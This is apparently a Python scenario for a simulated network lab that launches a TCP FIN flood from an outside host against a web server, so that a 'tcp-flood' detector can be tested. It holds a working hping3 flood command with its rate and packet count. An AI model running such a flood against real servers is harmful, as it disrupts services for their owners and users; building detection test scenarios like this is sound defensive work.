"""A FIN flood from one address."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "tcp-flood",
        by=attacker,
        victims=[web],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and dst host {attacker.ip}",
    ):
        net.tool(attacker, *f"hping3 -q -F -p 80 -i u4000 -c 1200 {web.ip}".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="tcp-flood-fin",
    about="hping3 sends 250 bare FINs a second to a web server.",
    detectors=("tcp-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
